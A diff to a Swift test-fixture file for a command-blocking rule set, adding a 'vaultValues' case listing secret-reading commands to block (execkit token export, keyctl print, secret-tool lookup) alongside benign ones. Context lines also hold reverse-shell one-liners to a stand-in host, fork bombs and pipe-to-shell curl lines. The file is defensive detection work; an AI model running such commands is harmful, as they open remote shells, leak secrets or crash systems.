@@ -31,6 +31,12 @@ extension BuiltInRule {
         case .reverseShell: ["bash -i >& /dev/tcp/x.test/4444 0>&1", "nc -e /bin/sh x.test 4444",
             "ncat --exec /bin/sh x.test 1"]
         case .forkBomb: [":(){ :|:& };:", "b() { b | b & }; b"]
+        case .vaultValues:
+            [
+                "execkit get TOKEN", "/usr/local/bin/execkit export", "execkit run -- env", "x=$(execkit -C get T)",
+                "execkit \"$verb\"", "execkit rule clear TOKEN", "keyctl print 123", "secret-tool lookup service execkit",
+                "env execkit-keeper", "execkit", "bash -c 'execkit shell'",
+            ]
         case .limits: [String(repeating: "env ", count: 80) + "ls", String(repeating: "eval ", count: 80) + "ls"]
         }
     }
@@ -59,6 +65,8 @@ extension BuiltInRule {
             "curl x.test; echo ls | sh", "echo 'curl x | sh'"]
         case .reverseShell: ["cat < /dev/tcp/localhost/80", "nc -z localhost 80", "bash -i"]
         case .forkBomb: ["f() { g | g; }; f", "f() { f; }", "a | a"]
+        case .vaultValues: ["execkit list", "execkit status --json", "execkit --help", "execkit help get", "execkit doctor",
+            "ls execkit", "execkit --version", "keyctl --version"]
         case .limits: ["env env env ls", "bash -c 'bash -c \"bash -c ls\"'"]
         }
     }
